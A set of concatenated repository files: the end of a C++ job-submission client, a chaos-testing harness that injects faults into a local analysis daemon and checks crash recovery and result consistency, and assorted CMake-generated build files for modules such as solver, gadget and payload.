    if (!outcome.ok()) {
      std::fprintf(stderr, "gp_client: %s\n",
                   outcome.status().to_string().c_str());
      return 1;
    }
    print_outcome(outcome.value());
    return outcome_exit_code(outcome.value());
  }

  if (command != "submit") return usage(argv[0]);

  // Transient-failure backoff: 100ms doubling to a 2s ceiling. Shed
  // retries ignore this and use the daemon's own hint instead.
  auto backoff = [](int attempt) {
    const int ms = std::min(100 << std::min(attempt, 5), 2'000);
    std::this_thread::sleep_for(std::chrono::milliseconds(ms));
  };
  auto transient = [&](int attempt, const Status& st) {
    std::fprintf(stderr, "gp_client: %s%s\n", st.to_string().c_str(),
                 attempt < retries ? " (will retry)" : "");
    if (attempt >= retries) return false;
    backoff(attempt);
    return true;
  };

  for (int attempt = 0;; ++attempt) {
    auto c = connect();
    if (!c.ok()) {
      if (transient(attempt, c.status())) continue;
      return 1;
    }
    auto adm = c.value().submit(spec, stream);
    if (!adm.ok()) {
      if (transient(attempt, adm.status())) continue;
      return 1;
    }
    if (!adm.value().accepted) {
      const auto& shed = adm.value().shed;
      std::fprintf(stderr, "gp_client: shed (%s), retry after %ums\n",
                   shed.reason.c_str(), shed.retry_after_ms);
      if (attempt >= retries) {
        std::printf("shed reason=%s retry_after_ms=%u\n", shed.reason.c_str(),
                    shed.retry_after_ms);
        return 5;
      }
      std::this_thread::sleep_for(
          std::chrono::milliseconds(shed.retry_after_ms));
      continue;
    }
    const auto& ok = adm.value().ok;
    if (!quiet)
      std::fprintf(stderr, "accepted job=%s%s\n", ok.job_id.c_str(),
                   ok.already_done ? " (already done)" : "");
    if (!stream) {
      std::printf("job=%s submitted\n", ok.job_id.c_str());
      return 0;
    }
    auto outcome = c.value().wait_result([&](const serve::ProgressMsg& p) {
      if (!quiet) std::fprintf(stderr, "stage: %s\n", p.stage.c_str());
    });
    if (!outcome.ok()) {
      // Mid-stream loss (daemon killed under us). Resubmitting the same
      // spec lands on the journal-replayed record, warm from the store.
      if (transient(attempt, outcome.status())) continue;
      return 1;
    }
    print_outcome(outcome.value());
    return outcome_exit_code(outcome.value());
  }
}
