// gp_chaos: fault-matrix chaos harness for the gp_serve daemon.
//
//   gp_chaos [--serve-bin <path>] [--points p1,p2] [--rates r1,r2]
//            [--quick] [--no-kill] [--out <json>] [--keep]
//
// Sweeps every registered GP_FAULT point (from fault::valid_point_names(),
// so a newly added point is swept automatically) crossed with injection
// rates and kill timings against a REAL daemon child process, and asserts
// the recovery contract after each round:
//
//   1. the daemon is alive at the end — either it survived the round or a
//      bounded number of restarts brought it back (restarts keep the fault
//      spec for the first two incarnations so persistent faults exercise
//      the quarantine path, then disable it: the operator's "revert and
//      restart");
//   2. journal replay converges: the restarted daemon works its re-enqueued
//      backlog down to journal_depth == 0 on its own;
//   3. no job is both lost and unreported — every submitted job ends with a
//      terminal outcome via attach, or via one resubmit when the fault ate
//      its admission before the journal saw it;
//   4. for fault points that do not perturb the analysis itself (store I/O,
//      sockets, journal), the final digests are byte-identical to a clean
//      reference round. Points that alter analysis results or kill workers
//      (decode/solver/emu/alloc/job_crash) are exempt from (4) only.
//
// Exit 0 when every round holds all invariants; 1 otherwise. --out writes a
// per-round JSON summary (EXPERIMENTS.md's chaos-matrix table is generated
// from it).
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <map>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include "serve/client.hpp"
#include "serve/protocol.hpp"
#include "support/fault.hpp"

namespace {

using namespace gp;
using gp::serve::Client;
using gp::serve::JobOutcome;
using gp::serve::JobSpec;

void sleep_ms(int ms) {
  std::this_thread::sleep_for(std::chrono::milliseconds(ms));
}

// Same fast call-rich mini-C program the serve tests use: milliseconds per
// job, still a real pool + chains, so a 50-round sweep stays minutes.
const char* kTinySource = R"(
int scale(int x, int k) { return x * k + 3; }
int clamp(int v, int lo, int hi) { if (v < lo) return lo; if (v > hi) return hi; return v; }
int a[16];
int main() {
  int i = 0;
  while (i < 16) { a[i] = clamp(scale(i, 37), 5, 900) & 0xff; i = i + 1; }
  int j = 0; int best = 0;
  while (j < 16) { if (a[j] > best) best = a[j]; j = j + 1; }
  out(best); return best;
})";

std::vector<JobSpec> chaos_jobs() {
  std::vector<JobSpec> jobs;
  for (u64 seed : {11, 12, 13}) {
    JobSpec spec;
    spec.program = "chaos_tiny";
    spec.source = kTinySource;
    spec.obf = "none";
    spec.goal = "execve";
    spec.seed = seed;
    jobs.push_back(std::move(spec));
  }
  return jobs;
}

/// Fault points whose whole job is to perturb the analysis (or kill the
/// worker): their outcomes legitimately differ from the clean reference,
/// so invariant (4) does not apply to them.
bool perturbs_analysis(const std::string& point) {
  return point == "decode" || point == "solver" || point == "emu" ||
         point == "alloc" || point == "job_crash";
}

std::vector<std::string> split_csv(const std::string& s) {
  std::vector<std::string> out;
  size_t pos = 0;
  while (pos < s.size()) {
    size_t comma = s.find(',', pos);
    if (comma == std::string::npos) comma = s.size();
    std::string item = s.substr(pos, comma - pos);
    while (!item.empty() && item.front() == ' ') item.erase(item.begin());
    while (!item.empty() && item.back() == ' ') item.pop_back();
    if (!item.empty()) out.push_back(std::move(item));
    pos = comma + 1;
  }
  return out;
}

/// One gp_serve child process.
struct Daemon {
  pid_t pid = -1;

  bool alive() {
    if (pid < 0) return false;
    const pid_t r = ::waitpid(pid, nullptr, WNOHANG);
    if (r == pid) pid = -1;
    return pid >= 0;
  }

  void kill_hard() {
    if (pid < 0) return;
    ::kill(pid, SIGKILL);
    ::waitpid(pid, nullptr, 0);
    pid = -1;
  }

  /// SIGTERM + bounded wait, escalating to SIGKILL.
  void stop() {
    if (pid < 0) return;
    ::kill(pid, SIGTERM);
    for (int i = 0; i < 100; ++i) {
      if (::waitpid(pid, nullptr, WNOHANG) == pid) {
        pid = -1;
        return;
      }
      sleep_ms(100);
    }
    kill_hard();
  }
};

/// fork/exec gp_serve and wait for its --ready-fd byte (or early death).
Daemon spawn_daemon(const std::string& serve_bin, const std::string& sock,
                    const std::string& store, const std::string& fault_spec) {
  int ready[2];
  if (::pipe(ready) != 0) return {};
  const pid_t pid = ::fork();
  if (pid < 0) {
    ::close(ready[0]);
    ::close(ready[1]);
    return {};
  }
  if (pid == 0) {
    ::close(ready[0]);
    if (fault_spec.empty())
      ::unsetenv("GP_FAULT");
    else
      ::setenv("GP_FAULT", fault_spec.c_str(), 1);
    // Tiny jobs + a 2s deadline keep a wedged round from stalling the
    // sweep; the watchdog gets a short grace so it actually participates.
    ::setenv("GP_DEADLINE_MS", "2000", 1);
    ::setenv("GP_SERVE_WATCHDOG_MS", "1000", 1);
    const std::string ready_fd = std::to_string(ready[1]);
    // stderr to /dev/null: 50 rounds of daemon banners would drown the
    // matrix output. The harness judges by protocol, not logs.
    const int devnull = ::open("/dev/null", O_WRONLY);
    if (devnull >= 0) ::dup2(devnull, 2);
    ::execl(serve_bin.c_str(), serve_bin.c_str(), "--sock", sock.c_str(),
            "--store", store.c_str(), "--max-active", "2", "--ready-fd",
            ready_fd.c_str(), static_cast<char*>(nullptr));
    _exit(127);
  }
  ::close(ready[1]);
  Daemon d{pid};
  pollfd pfd{ready[0], POLLIN, 0};
  if (::poll(&pfd, 1, 15'000) <= 0 || !(pfd.revents & POLLIN)) {
    ::close(ready[0]);
    d.kill_hard();
    return {};
  }
  char byte = 0;
  (void)!::read(ready[0], &byte, 1);
  ::close(ready[0]);
  return d;
}

i64 stats_i64(const std::string& json, const std::string& key) {
  const std::string needle = "\"" + key + "\": ";
  const size_t at = json.find(needle);
  if (at == std::string::npos) return -1;
  return std::atoll(json.c_str() + at + needle.size());
}

struct RoundResult {
  std::string point;
  double rate = 0;
  bool kill = false;
  bool converged = false;
  bool all_answered = false;
  bool digests_ok = true;  // only meaningful for non-perturbing points
  bool digests_checked = false;
  int restarts = 0;
  int resubmits = 0;
  int poisoned = 0;
  std::string note;

  bool pass() const { return converged && all_answered && digests_ok; }
};

class Round {
 public:
  Round(std::string serve_bin, std::string dir, std::string fault_spec)
      : serve_bin_(std::move(serve_bin)),
        dir_(std::move(dir)),
        sock_(dir_ + "/gp.sock"),
        store_(dir_ + "/store"),
        fault_spec_(std::move(fault_spec)) {
    std::error_code ec;
    std::filesystem::create_directories(store_, ec);
  }

  ~Round() { daemon_.stop(); }

  /// Bring a daemon up (or back up), keeping the fault spec for the first
  /// kKeepFaultRestarts incarnations so a persistent fault (job_crash)
  /// exercises poison counting, then reverting to a clean daemon.
  bool ensure_alive(RoundResult& r) {
    if (daemon_.alive()) return true;
    for (int attempt = 0; attempt < kMaxRestarts; ++attempt) {
      if (spawned_once_) r.restarts++;
      if (r.restarts > kMaxRestarts) break;
      const bool keep_fault = r.restarts <= kKeepFaultRestarts;
      daemon_ = spawn_daemon(serve_bin_, sock_, store_,
                             keep_fault ? fault_spec_ : "");
      if (daemon_.alive()) {
        spawned_once_ = true;
        return true;
      }
    }
    r.note = "daemon would not come back after " +
             std::to_string(kMaxRestarts) + " restarts";
    return false;
  }

  /// Connect with a 30s I/O timeout: a fault-wedged daemon (e.g. a reply
  /// write eaten by sock_write) must never wedge the harness — a timed-out
  /// call fails like any other I/O error and the attempt is retried.
  Result<Client> dial() {
    auto c = Client::connect(sock_);
    if (c.ok()) (void)c.value().set_io_timeout_ms(30'000);
    return c;
  }

  bool submit_all(const std::vector<JobSpec>& jobs, RoundResult& r) {
    for (const JobSpec& spec : jobs) {
      bool admitted = false;
      for (int attempt = 0; attempt < 50 && !admitted; ++attempt) {
        if (!ensure_alive(r)) return false;
        auto c = dial();
        if (!c.ok()) {
          sleep_ms(100);
          continue;
        }
        auto adm = c.value().submit(spec, /*stream=*/false);
        if (!adm.ok()) {
          sleep_ms(100);  // injected socket fault or mid-crash: retry
          continue;
        }
        if (!adm.value().accepted) {
          sleep_ms(static_cast<int>(
              std::min<u32>(adm.value().shed.retry_after_ms, 500)));
          continue;
        }
        admitted = true;
      }
      if (!admitted) {
        r.note = "job " + spec.job_id() + " never admitted";
        return false;
      }
    }
    return true;
  }

  bool converge(RoundResult& r) {
    const auto t0 = std::chrono::steady_clock::now();
    while (std::chrono::steady_clock::now() - t0 <
           std::chrono::seconds(90)) {
      if (!ensure_alive(r)) return false;
      auto c = dial();
      if (!c.ok()) {
        sleep_ms(150);
        continue;
      }
      auto stats = c.value().stats();
      if (!stats.ok()) {
        sleep_ms(150);
        continue;
      }
      if (stats_i64(stats.value(), "journal_depth") == 0) return true;
      sleep_ms(150);
    }
    r.note = "journal_depth never reached 0";
    return false;
  }

  /// Terminal outcome for every job: attach, or one resubmit when the
  /// fault ate the admission before it became durable.
  bool collect(const std::vector<JobSpec>& jobs,
               std::map<std::string, JobOutcome>& outcomes, RoundResult& r) {
    for (const JobSpec& spec : jobs) {
      const std::string id = spec.job_id();
      std::optional<JobOutcome> out;
      for (int attempt = 0; attempt < 40 && !out; ++attempt) {
        if (!ensure_alive(r)) return false;
        auto c = dial();
        if (!c.ok()) {
          sleep_ms(150);
          continue;
        }
        auto adm = c.value().attach(id);
        if (!adm.ok()) {
          // Unknown job: the admission was lost before the journal saw
          // it (that round's fault fired between accept and append).
          // Lost-but-reported is exactly what resubmission is for.
          auto re = c.value().submit(spec, /*stream=*/true);
          if (re.ok() && re.value().accepted) {
            r.resubmits++;
            auto res = c.value().wait_result();
            if (res.ok()) out = std::move(res.value());
          } else {
            sleep_ms(150);
          }
          continue;
        }
        if (!adm.value().accepted) {
          sleep_ms(150);
          continue;
        }
        auto res = c.value().wait_result();
        if (res.ok()) out = std::move(res.value());
      }
      if (!out) {
        r.note = "job " + id + " unreported";
        return false;
      }
      if (out->status_msg.find("poisoned") != std::string::npos)
        r.poisoned++;
      outcomes[id] = std::move(*out);
    }
    return true;
  }

  Daemon& daemon() { return daemon_; }

 private:
  static constexpr int kMaxRestarts = 6;
  static constexpr int kKeepFaultRestarts = 2;

  std::string serve_bin_;
  std::string dir_;
  std::string sock_;
  std::string store_;
  std::string fault_spec_;
  Daemon daemon_;
  bool spawned_once_ = false;  // the initial spawn is not a "restart"
};

int usage(const char* argv0) {
  std::fprintf(stderr,
               "usage: %s [--serve-bin <path>] [--points p1,p2] "
               "[--rates r1,r2] [--quick] [--no-kill] [--out <json>] "
               "[--keep]\n",
               argv0);
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  std::string serve_bin;
  std::string points_csv;
  std::string rates_csv;
  std::string out_path;
  bool quick = false;
  bool no_kill = false;
  bool keep = false;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    const char* v = i + 1 < argc ? argv[i + 1] : nullptr;
    if (arg == "--serve-bin" && v) {
      serve_bin = v;
      ++i;
    } else if (arg == "--points" && v) {
      points_csv = v;
      ++i;
    } else if (arg == "--rates" && v) {
      rates_csv = v;
      ++i;
    } else if (arg == "--out" && v) {
      out_path = v;
      ++i;
    } else if (arg == "--quick") {
      quick = true;
    } else if (arg == "--no-kill") {
      no_kill = true;
    } else if (arg == "--keep") {
      keep = true;
    } else {
      return usage(argv[0]);
    }
  }

  if (serve_bin.empty()) {
    // Default: gp_serve next to this binary (both live in build/tools).
    const std::filesystem::path self(argv[0]);
    serve_bin = (self.parent_path() / "gp_serve").string();
  }
  if (!std::filesystem::exists(serve_bin)) {
    std::fprintf(stderr, "gp_chaos: no gp_serve at %s (--serve-bin?)\n",
                 serve_bin.c_str());
    return 2;
  }

  // The registered fault points ARE the matrix rows: a new Point enum
  // entry shows up here without touching this tool.
  std::vector<std::string> points =
      points_csv.empty() ? split_csv(fault::valid_point_names())
                         : split_csv(points_csv);
  std::vector<double> rates;
  for (const std::string& r :
       split_csv(rates_csv.empty() ? (quick ? "0.25" : "0.05,0.5")
                                   : rates_csv))
    rates.push_back(std::atof(r.c_str()));
  std::vector<bool> kills = no_kill ? std::vector<bool>{false}
                                    : std::vector<bool>{false, true};

  char tmpl[] = "/tmp/gp_chaos_XXXXXX";
  const char* workdir = ::mkdtemp(tmpl);
  if (!workdir) {
    std::fprintf(stderr, "gp_chaos: mkdtemp failed\n");
    return 1;
  }

  const std::vector<JobSpec> jobs = chaos_jobs();

  // Clean reference round: the digests every non-perturbing round must
  // reproduce byte-for-byte.
  std::map<std::string, u64> reference;
  {
    RoundResult ref;
    Round round(serve_bin, std::string(workdir) + "/ref", "");
    std::map<std::string, JobOutcome> outcomes;
    if (!round.ensure_alive(ref) || !round.submit_all(jobs, ref) ||
        !round.converge(ref) || !round.collect(jobs, outcomes, ref)) {
      std::fprintf(stderr, "gp_chaos: clean reference round failed: %s\n",
                   ref.note.c_str());
      return 1;
    }
    for (const auto& [id, out] : outcomes) reference[id] = out.digest;
    std::fprintf(stderr, "gp_chaos: reference digests captured (%zu jobs)\n",
                 reference.size());
  }

  std::vector<RoundResult> results;
  int round_idx = 0;
  for (const std::string& point : points) {
    for (const double rate : rates) {
      for (const bool kill : kills) {
        RoundResult r;
        r.point = point;
        r.rate = rate;
        r.kill = kill;
        char spec[128];
        std::snprintf(spec, sizeof spec, "%s=%.3f,seed=13", point.c_str(),
                      rate);
        Round round(serve_bin,
                    std::string(workdir) + "/r" + std::to_string(round_idx++),
                    spec);
        std::map<std::string, JobOutcome> outcomes;
        do {
          if (!round.ensure_alive(r)) break;
          if (!round.submit_all(jobs, r)) break;
          if (kill) {
            sleep_ms(200);
            round.daemon().kill_hard();
          }
          if (!round.converge(r)) break;
          r.converged = true;
          if (!round.collect(jobs, outcomes, r)) break;
          r.all_answered = true;
        } while (false);
        if (r.all_answered && !perturbs_analysis(point)) {
          r.digests_checked = true;
          for (const auto& [id, out] : outcomes)
            if (out.digest != reference[id]) {
              r.digests_ok = false;
              r.note = "digest mismatch for " + id;
            }
        }
        std::fprintf(stderr,
                     "gp_chaos: %-16s rate=%.2f kill=%d -> %s "
                     "(restarts=%d resubmits=%d poisoned=%d%s%s)\n",
                     point.c_str(), rate, kill ? 1 : 0,
                     r.pass() ? "PASS" : "FAIL", r.restarts, r.resubmits,
                     r.poisoned, r.note.empty() ? "" : ", ",
                     r.note.c_str());
        results.push_back(std::move(r));
      }
    }
  }

  int failed = 0;
  for (const RoundResult& r : results)
    if (!r.pass()) failed++;

  if (!out_path.empty()) {
    FILE* f = std::fopen(out_path.c_str(), "w");
    if (f) {
      std::fprintf(f, "{\"rounds\": [\n");
      for (size_t i = 0; i < results.size(); ++i) {
        const RoundResult& r = results[i];
        std::fprintf(
            f,
            "  {\"point\": \"%s\", \"rate\": %.3f, \"kill\": %s, "
            "\"pass\": %s, \"converged\": %s, \"all_answered\": %s, "
            "\"digests_checked\": %s, \"digests_ok\": %s, "
            "\"restarts\": %d, \"resubmits\": %d, \"poisoned\": %d, "
            "\"note\": \"%s\"}%s\n",
            r.point.c_str(), r.rate, r.kill ? "true" : "false",
            r.pass() ? "true" : "false", r.converged ? "true" : "false",
            r.all_answered ? "true" : "false",
            r.digests_checked ? "true" : "false",
            r.digests_ok ? "true" : "false", r.restarts, r.resubmits,
            r.poisoned, r.note.c_str(),
            i + 1 < results.size() ? "," : "");
      }
      std::fprintf(f, "], \"failed\": %d, \"total\": %zu}\n", failed,
                   results.size());
      std::fclose(f);
    }
  }

  if (!keep) {
    std::error_code ec;
    std::filesystem::remove_all(workdir, ec);
  }

  std::fprintf(stderr, "gp_chaos: %zu rounds, %d failed\n", results.size(),
               failed);
  return failed == 0 ? 0 : 1;
}
