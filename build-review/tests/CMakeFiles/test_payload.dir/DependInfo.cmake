
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/test_payload.cpp" "tests/CMakeFiles/test_payload.dir/test_payload.cpp.o" "gcc" "tests/CMakeFiles/test_payload.dir/test_payload.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build-review/src/payload/CMakeFiles/gp_payload.dir/DependInfo.cmake"
  "/root/repo/build-review/src/subsume/CMakeFiles/gp_subsume.dir/DependInfo.cmake"
  "/root/repo/build-review/src/x86/CMakeFiles/gp_x86.dir/DependInfo.cmake"
  "/root/repo/build-review/src/image/CMakeFiles/gp_image.dir/DependInfo.cmake"
  "/root/repo/build-review/src/emu/CMakeFiles/gp_emu.dir/DependInfo.cmake"
  "/root/repo/build-review/src/gadget/CMakeFiles/gp_gadget.dir/DependInfo.cmake"
  "/root/repo/build-review/src/sym/CMakeFiles/gp_sym.dir/DependInfo.cmake"
  "/root/repo/build-review/src/lift/CMakeFiles/gp_lift.dir/DependInfo.cmake"
  "/root/repo/build-review/src/ir/CMakeFiles/gp_ir.dir/DependInfo.cmake"
  "/root/repo/build-review/src/solver/CMakeFiles/gp_solver.dir/DependInfo.cmake"
  "/root/repo/build-review/src/support/CMakeFiles/gp_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
