# Empty compiler generated dependencies file for test_payload.
# This may be replaced when dependencies are built.
