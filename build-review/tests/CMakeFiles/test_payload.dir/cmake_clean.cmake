file(REMOVE_RECURSE
  "CMakeFiles/test_payload.dir/test_payload.cpp.o"
  "CMakeFiles/test_payload.dir/test_payload.cpp.o.d"
  "test_payload"
  "test_payload.pdb"
  "test_payload[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_payload.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
