# Empty compiler generated dependencies file for test_minic.
# This may be replaced when dependencies are built.
