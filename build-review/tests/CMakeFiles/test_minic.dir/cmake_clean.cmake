file(REMOVE_RECURSE
  "CMakeFiles/test_minic.dir/test_minic.cpp.o"
  "CMakeFiles/test_minic.dir/test_minic.cpp.o.d"
  "test_minic"
  "test_minic.pdb"
  "test_minic[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_minic.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
