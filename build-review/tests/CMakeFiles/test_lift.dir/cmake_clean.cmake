file(REMOVE_RECURSE
  "CMakeFiles/test_lift.dir/test_lift.cpp.o"
  "CMakeFiles/test_lift.dir/test_lift.cpp.o.d"
  "test_lift"
  "test_lift.pdb"
  "test_lift[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_lift.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
