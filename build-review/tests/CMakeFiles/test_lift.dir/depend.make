# Empty dependencies file for test_lift.
# This may be replaced when dependencies are built.
