# Empty compiler generated dependencies file for test_sym.
# This may be replaced when dependencies are built.
