file(REMOVE_RECURSE
  "CMakeFiles/test_sym.dir/test_sym.cpp.o"
  "CMakeFiles/test_sym.dir/test_sym.cpp.o.d"
  "test_sym"
  "test_sym.pdb"
  "test_sym[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_sym.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
