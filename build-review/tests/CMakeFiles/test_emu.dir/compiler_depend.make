# Empty compiler generated dependencies file for test_emu.
# This may be replaced when dependencies are built.
