file(REMOVE_RECURSE
  "CMakeFiles/test_emu.dir/test_emu.cpp.o"
  "CMakeFiles/test_emu.dir/test_emu.cpp.o.d"
  "test_emu"
  "test_emu.pdb"
  "test_emu[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_emu.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
