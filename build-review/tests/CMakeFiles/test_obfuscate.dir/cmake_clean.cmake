file(REMOVE_RECURSE
  "CMakeFiles/test_obfuscate.dir/test_obfuscate.cpp.o"
  "CMakeFiles/test_obfuscate.dir/test_obfuscate.cpp.o.d"
  "test_obfuscate"
  "test_obfuscate.pdb"
  "test_obfuscate[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_obfuscate.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
