# Empty compiler generated dependencies file for test_obfuscate.
# This may be replaced when dependencies are built.
