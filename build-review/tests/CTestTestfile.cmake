# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build-review/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build-review/tests/test_support[1]_include.cmake")
include("/root/repo/build-review/tests/test_x86[1]_include.cmake")
include("/root/repo/build-review/tests/test_solver[1]_include.cmake")
include("/root/repo/build-review/tests/test_emu[1]_include.cmake")
include("/root/repo/build-review/tests/test_sym[1]_include.cmake")
include("/root/repo/build-review/tests/test_minic[1]_include.cmake")
include("/root/repo/build-review/tests/test_obfuscate[1]_include.cmake")
include("/root/repo/build-review/tests/test_gadget[1]_include.cmake")
include("/root/repo/build-review/tests/test_parallel[1]_include.cmake")
include("/root/repo/build-review/tests/test_planner[1]_include.cmake")
include("/root/repo/build-review/tests/test_corpus[1]_include.cmake")
include("/root/repo/build-review/tests/test_baselines[1]_include.cmake")
include("/root/repo/build-review/tests/test_core[1]_include.cmake")
include("/root/repo/build-review/tests/test_lift[1]_include.cmake")
include("/root/repo/build-review/tests/test_payload[1]_include.cmake")
include("/root/repo/build-review/tests/test_image[1]_include.cmake")
include("/root/repo/build-review/tests/test_cfg[1]_include.cmake")
include("/root/repo/build-review/tests/test_governor[1]_include.cmake")
include("/root/repo/build-review/tests/test_robustness[1]_include.cmake")
include("/root/repo/build-review/tests/test_store[1]_include.cmake")
