file(REMOVE_RECURSE
  "CMakeFiles/gp_ir.dir/ir.cpp.o"
  "CMakeFiles/gp_ir.dir/ir.cpp.o.d"
  "libgp_ir.a"
  "libgp_ir.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_ir.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
