file(REMOVE_RECURSE
  "libgp_ir.a"
)
