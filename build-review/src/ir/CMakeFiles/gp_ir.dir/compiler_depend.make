# Empty compiler generated dependencies file for gp_ir.
# This may be replaced when dependencies are built.
