# Empty dependencies file for gp_corpus.
# This may be replaced when dependencies are built.
