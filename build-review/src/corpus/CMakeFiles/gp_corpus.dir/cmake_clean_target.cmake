file(REMOVE_RECURSE
  "libgp_corpus.a"
)
