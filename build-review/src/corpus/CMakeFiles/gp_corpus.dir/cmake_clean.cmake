file(REMOVE_RECURSE
  "CMakeFiles/gp_corpus.dir/corpus.cpp.o"
  "CMakeFiles/gp_corpus.dir/corpus.cpp.o.d"
  "libgp_corpus.a"
  "libgp_corpus.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_corpus.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
