# CMake generated Testfile for 
# Source directory: /root/repo/src/obfuscate
# Build directory: /root/repo/build-review/src/obfuscate
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
