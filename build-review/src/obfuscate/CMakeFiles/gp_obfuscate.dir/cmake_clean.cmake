file(REMOVE_RECURSE
  "CMakeFiles/gp_obfuscate.dir/passes.cpp.o"
  "CMakeFiles/gp_obfuscate.dir/passes.cpp.o.d"
  "CMakeFiles/gp_obfuscate.dir/virtualize.cpp.o"
  "CMakeFiles/gp_obfuscate.dir/virtualize.cpp.o.d"
  "libgp_obfuscate.a"
  "libgp_obfuscate.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_obfuscate.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
