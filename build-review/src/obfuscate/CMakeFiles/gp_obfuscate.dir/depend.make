# Empty dependencies file for gp_obfuscate.
# This may be replaced when dependencies are built.
