file(REMOVE_RECURSE
  "libgp_obfuscate.a"
)
