# Empty dependencies file for gp_image.
# This may be replaced when dependencies are built.
