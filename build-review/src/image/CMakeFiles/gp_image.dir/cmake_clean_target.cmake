file(REMOVE_RECURSE
  "libgp_image.a"
)
