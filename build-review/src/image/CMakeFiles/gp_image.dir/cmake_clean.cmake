file(REMOVE_RECURSE
  "CMakeFiles/gp_image.dir/image.cpp.o"
  "CMakeFiles/gp_image.dir/image.cpp.o.d"
  "libgp_image.a"
  "libgp_image.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_image.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
