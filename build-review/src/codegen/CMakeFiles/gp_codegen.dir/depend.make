# Empty dependencies file for gp_codegen.
# This may be replaced when dependencies are built.
