file(REMOVE_RECURSE
  "libgp_codegen.a"
)
