file(REMOVE_RECURSE
  "CMakeFiles/gp_codegen.dir/codegen.cpp.o"
  "CMakeFiles/gp_codegen.dir/codegen.cpp.o.d"
  "libgp_codegen.a"
  "libgp_codegen.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/gp_codegen.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
