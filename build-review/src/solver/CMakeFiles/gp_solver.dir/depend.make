# Empty dependencies file for gp_solver.
# This may be replaced when dependencies are built.
