
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/solver/bitblast.cpp" "src/solver/CMakeFiles/gp_solver.dir/bitblast.cpp.o" "gcc" "src/solver/CMakeFiles/gp_solver.dir/bitblast.cpp.o.d"
  "/root/repo/src/solver/expr.cpp" "src/solver/CMakeFiles/gp_solver.dir/expr.cpp.o" "gcc" "src/solver/CMakeFiles/gp_solver.dir/expr.cpp.o.d"
  "/root/repo/src/solver/sat.cpp" "src/solver/CMakeFiles/gp_solver.dir/sat.cpp.o" "gcc" "src/solver/CMakeFiles/gp_solver.dir/sat.cpp.o.d"
  "/root/repo/src/solver/serialize.cpp" "src/solver/CMakeFiles/gp_solver.dir/serialize.cpp.o" "gcc" "src/solver/CMakeFiles/gp_solver.dir/serialize.cpp.o.d"
  "/root/repo/src/solver/solver.cpp" "src/solver/CMakeFiles/gp_solver.dir/solver.cpp.o" "gcc" "src/solver/CMakeFiles/gp_solver.dir/solver.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build-review/src/support/CMakeFiles/gp_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
