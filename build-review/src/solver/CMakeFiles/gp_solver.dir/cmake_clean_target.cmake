file(REMOVE_RECURSE
  "libgp_solver.a"
)
