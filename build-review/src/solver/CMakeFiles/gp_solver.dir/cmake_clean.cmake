file(REMOVE_RECURSE
  "CMakeFiles/gp_solver.dir/bitblast.cpp.o"
  "CMakeFiles/gp_solver.dir/bitblast.cpp.o.d"
  "CMakeFiles/gp_solver.dir/expr.cpp.o"
  "CMakeFiles/gp_solver.dir/expr.cpp.o.d"
  "CMakeFiles/gp_solver.dir/sat.cpp.o"
  "CMakeFiles/gp_solver.dir/sat.cpp.o.d"
  "CMakeFiles/gp_solver.dir/serialize.cpp.o"
  "CMakeFiles/gp_solver.dir/serialize.cpp.o.d"
  "CMakeFiles/gp_solver.dir/solver.cpp.o"
  "CMakeFiles/gp_solver.dir/solver.cpp.o.d"
  "libgp_solver.a"
